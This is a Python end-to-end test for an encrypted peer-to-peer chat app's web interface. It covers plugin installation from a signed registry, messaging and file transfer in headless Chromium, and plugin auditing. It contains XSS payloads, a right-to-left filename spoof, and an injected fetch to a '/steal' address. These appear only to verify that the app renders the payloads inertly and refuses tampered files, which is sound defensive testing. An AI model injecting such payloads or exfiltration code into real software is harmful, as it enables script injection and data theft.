"""The web ui end to end, as a user installs and runs it: real wheels published to a registry
with the ui slot's key and installed with ``enkrypted plugins install``; Bob chats in headless
Chromium on ``enkrypted --ui ui-web chat``, Alice with the scriptable commands (``send``,
``sendfile``, ``listen --accept-files``) in her own HOME and profile, through our broker over
WebRTC on loopback: messages both ways with receipts (Alice's hostile ones drawn as text), a file
each way with its SHA-256 checked on the other side.  Then ``plugins graph`` / ``audit`` show
ui-web, its signer and the digests of the page files it served, and a page file edited inside the
installed wheel is refused at start.  Every process is stopped by its PID; every wait is bounded."""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import json
import os
import select
import signal
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from enkrypted_registry import Repository, publish
from tests.environments import Environments
from tests.plugins.webui.harness import STATIC
from tests.registry.support import PYTHON, start_process
from tools.browser import CHROMIUM, Browser
from tools.loopback import free_port, wait_port
from tools.workspace import Env, plugin_libraries

pytestmark = [pytest.mark.e2e, pytest.mark.slow]
PASSPHRASE = "correct horse battery staple"
SLOT_OF = {"enkrypted-p2p": "p2p", "enkrypted-crypto": "crypto", "enkrypted-ui-cli": "ui",
           "enkrypted-ui-web": "ui"}
HOSTILE = ["hello bob <script>window.__pwned = 1</script>",
           "<img src=x onerror=\"window.__pwned = 2\">", "file\u202egnp.exe"]


def _stop(proc: subprocess.Popen[str]) -> None:
    if proc.poll() is None:
        proc.send_signal(signal.SIGTERM)
        try:
            proc.wait(20)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait(10)


class Person:
    def __init__(self, env: Env, home: Path, name: str, ui: str, broker: str, *, signed: bool) -> None:
        self.env, self.home, self.name = env, home, name
        home.mkdir(parents=True, exist_ok=True)
        (home / "config.toml").write_text(
            f'[plugins]\nui = "{ui}"\n\n[settings.p2p]\nbroker_url = "{broker}"\n'
            'host_addresses = ["127.0.0.1"]\nremote_networks = ["127.0.0.0/8"]\n', "utf-8")
        skip = ("PYTHONPATH", "ENKRYPTED_DEV", "ENKRYPTED_PROFILE", "ENKRYPTED_ALLOW_UNSIGNED")
        self.environ = {**{k: v for k, v in os.environ.items() if k not in skip},
                        "ENKRYPTED_HOME": str(home), "ENKRYPTED_PASSPHRASE": PASSPHRASE,
                        "ENKRYPTED_NO_BROWSER": "1"}
        if not signed:
            self.environ["ENKRYPTED_ALLOW_UNSIGNED"] = "1"

    def run(self, *args: str, timeout: float = 180) -> subprocess.CompletedProcess[str]:
        return subprocess.run([str(self.env.bin / "enkrypted"), *args], capture_output=True,
                              text=True, env=self.environ, timeout=timeout, check=False)

    def start(self, *args: str) -> subprocess.Popen[str]:
        return subprocess.Popen([str(self.env.bin / "enkrypted"), *args], stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True, env=self.environ)


def read_line(proc: subprocess.Popen[str], wanted: str, timeout: float) -> str:
    assert proc.stdout is not None
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        ready, _, _ = select.select([proc.stdout], [], [], max(0.1, deadline - time.monotonic()))
        if ready:
            line = proc.stdout.readline()
            if not line:
                break
            if wanted in line:
                return line
    err = proc.stderr.read() if proc.stderr and proc.poll() is not None else ""
    raise AssertionError(f"no line with {wanted!r} within {timeout} s (exit {proc.poll()}): {err[-2000:]}")


@contextlib.contextmanager
def stopping(*procs: subprocess.Popen[str]) -> Iterator[list[subprocess.Popen[str]]]:
    started = list(procs)
    try:
        yield started
    finally:
        for proc in started:
            _stop(proc)


@pytest.fixture
def world(
    tmp_path: Path, dist_wheels: dict[str, Path], environments: Environments
) -> Iterator[tuple[Person, Person]]:
    """A registry with the plugins, an environment with them installed (Bob's HOME holds their
    signed provenance), a broker, and Alice's and Bob's profiles."""
    if not CHROMIUM.exists():
        pytest.fail(f"{CHROMIUM} is missing: run make test (tools/setup/system-packages.sh)")
    wheels = {n: dist_wheels[n] for n in ["enkrypted-shell", *SLOT_OF]}
    repo = Repository.init(tmp_path / "registry")
    for dist, slot in SLOT_OF.items():
        publish(repo, [wheels[dist]], repo.key(slot))
    registry, url = start_process([PYTHON, "-m", "enkrypted_registry", "serve", str(repo.root),
                                   "--port", "0"], r"^serving (http://127\.0\.0\.1:\d+/)$")
    with stopping(registry) as started:
        env = environments.make(tmp_path / "env", wheels["enkrypted-shell"],
                                requirements=plugin_libraries(), with_pip=True)
        port = free_port()
        broker_url = f"ws://127.0.0.1:{port}/"
        bob = Person(env, tmp_path / "bob", "bob", "ui-web", broker_url, signed=True)
        alice = Person(env, tmp_path / "alice", "alice", "ui-cli", broker_url, signed=False)
        res = bob.run("plugins", "install", *SLOT_OF, "--index", url, "--python", str(env.python))
        assert res.returncode == 0, res.stderr[-3000:]
        broker = alice.start("broker", "--port", str(port))
        started.append(broker)
        wait_port(port, broker, 60)  # type: ignore[arg-type]
        for person in (bob, alice):
            res = person.run("profile", "create", person.name)
            assert res.returncode == 0, res.stderr[-2000:]
        yield alice, bob


def test_web_ui_and_the_scriptable_commands_chat_and_send_files(world: tuple[Person, Person],
                                                                  tmp_path: Path) -> None:
    alice, bob = world
    web = bob.start("--ui", "ui-web", "chat", "--profile", "bob", "--peer-id", "bob", "--no-browser")
    with stopping(web) as started:
        url = read_line(web, "open http://127.0.0.1:", 180).split("open ", 1)[1].strip()
        assert "#s=" in url
        asyncio.run(asyncio.wait_for(_scenario(url, alice, started, tmp_path), 420))
        web.send_signal(signal.SIGTERM)
        assert web.wait(60) == 0
    _graph_and_audit(bob)
    _tampered_asset_refused(bob)


async def _scenario(url: str, alice: Person, started: list[subprocess.Popen[str]], tmp: Path) -> None:
    origin = url.split("/#", 1)[0]
    async with Browser() as b:
        await b.goto(url)
        await b.wait_for("document.getElementById('me').textContent === 'bob'", 60)
        # Alice -> Bob: text (hostile on purpose), receipts come back from the web ui
        sent = await asyncio.to_thread(alice.run, "send", "--id", "alice", "--profile", "alice",
                                       "bob", *HOSTILE)
        assert sent.returncode == 0, sent.stderr[-3000:]
        shown = "[...document.querySelectorAll('#conversation li.in .text')].map(e => e.textContent)"
        await b.wait_for("document.querySelector('#contacts li[data-peer=alice]') !== null", 30)
        await b.evaluate("document.querySelector('#contacts li[data-peer=alice] button').click()")
        got = await b.wait_for(f"{shown}.length === 3 && {shown}", 30)
        assert got == [HOSTILE[0], HOSTILE[1], "file⟨U+202E⟩gnp.exe"]
        # Alice -> Bob: a file, accepted in the page, verified, downloaded from the profile
        data = os.urandom(200_000)
        (tmp / "for-bob.bin").write_bytes(data)
        sendfile = alice.start("sendfile", "--profile", "alice", "bob", str(tmp / "for-bob.bin"))
        started.append(sendfile)
        await b.click("open-files")
        row = "document.querySelector('#transfers tbody tr[data-state=offered]')"
        await b.wait_for(f"{row} !== null", 120)
        await b.evaluate(f"{row}.querySelector('button[data-action=accept]').click()")
        await b.wait_for("document.querySelectorAll('#received button').length === 1", 120)
        assert await asyncio.to_thread(sendfile.wait, 60) == 0
        digest = await b.evaluate(
            "receivedFile(0).then(b => b.arrayBuffer())"
            ".then(b => crypto.subtle.digest('SHA-256', b)).then(h => [...new Uint8Array(h)]"
            ".map(x => x.toString(16).padStart(2, '0')).join(''))", await_promise=True)
        assert digest == hashlib.sha256(data).hexdigest()
        # Bob (the page) -> Alice (listen): a message and a file
        inbox = tmp / "inbox"
        listen = alice.start("listen", "--profile", "alice", "--id", "alice", "--count", "2",
                             "--accept-files", str(inbox))
        started.append(listen)
        read_line(listen, "listening", 120)
        await b.click("open-connect")
        await b.type_into("target", "alice")
        await b.click("connect")
        await b.wait_for("document.querySelector('#contacts li[data-peer=alice]').dataset.state === 'ready'", 120)
        await b.type_into("message", "hi alice, from the browser")
        await b.click("send")
        await b.wait_for("document.querySelector('#conversation li.out .mark.done') !== null", 60)
        upload = tmp / "from-bob.txt"
        upload.write_bytes(os.urandom(150_000))
        await b.click("open-files")
        await b.set_file("file-pick", upload)
        await b.click("file-send")
        await b.wait_for("document.querySelector('#transfers tbody tr[data-state=done]') !== null "
                         "&& document.querySelectorAll('#transfers tbody tr[data-state=done]').length === 2", 120)
        assert await asyncio.to_thread(listen.wait, 60) == 0
        out = listen.stdout.read() if listen.stdout else ""
        assert "hi alice, from the browser" in out
        assert (inbox / "from-bob.txt").read_bytes() == upload.read_bytes()
        assert await b.evaluate("window.__pwned === undefined")
        assert b.csp_issues == [] and b.exceptions == [], (b.csp_issues, b.exceptions)
        ws = origin.replace("http", "ws")
        assert all(u.startswith((origin + "/", ws + "/", f"blob:{origin}/")) for u in b.requests), b.requests


def _graph_and_audit(bob: Person) -> None:
    expected = {p.name: "sha256:" + hashlib.sha256(p.read_bytes()).hexdigest()
                for p in STATIC.iterdir() if p.is_file()}
    graph = bob.run("--ui", "ui-web", "plugins", "graph", "--json")
    assert graph.returncode == 0, graph.stderr[-2000:]
    ui = json.loads(graph.stdout)["slots"]["ui"]
    assert ui["plugin"] == "ui-web" and len(ui["signer"]) == 64
    assert ui["assets"] == expected
    assert any("enkrypted-ui-cli==" in d for d in ui["dependencies"])
    text = bob.run("--ui", "ui-web", "plugins", "graph").stdout
    assert f"serves asset app.js {expected['app.js']}" in text and "signed by" in text
    audit = bob.run("--ui", "ui-web", "plugins", "audit", "--json")
    assert audit.returncode == 0, audit.stderr[-2000:]
    report = json.loads(audit.stdout)
    row = next(p for p in report["plugins"] if p["slot"] == "ui")
    assert row["plugin"] == "ui-web" and len(row["signer"]) == 64 and row["assets"] == expected
    loaded = [r for r in report["log"]["records"] if r.get("plugin") == "ui-web" and r.get("assets")]
    assert loaded and loaded[-1]["assets"] == expected and loaded[-1]["event"] == "verified"


def _tampered_asset_refused(bob: Person) -> None:
    script = bob.env.site_packages / "enkrypted_ui_web" / "static" / "app.js"
    script.write_bytes(script.read_bytes() + b"\nfetch('http://127.0.0.2/steal');\n")
    res = bob.run("--ui", "ui-web", "chat", "--profile", "bob", "--no-browser", timeout=120)
    assert res.returncode == 10, (res.returncode, res.stdout, res.stderr)
    assert "enkrypted_ui_web/static/app.js was changed after install" in res.stderr
    assert "open http" not in res.stdout
